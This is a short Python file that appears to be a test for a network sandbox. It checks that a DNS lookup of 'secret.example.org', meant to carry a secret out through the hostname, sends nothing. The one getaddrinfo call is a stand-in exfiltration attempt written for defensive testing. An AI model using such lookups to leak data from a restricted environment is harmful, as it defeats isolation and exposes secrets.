"""Carries a secret out in the name of a host that it looks up.

must: nothing is sent
"""

import socket


def attempt():
    return [str(socket.getaddrinfo("secret.example.org", 80))]
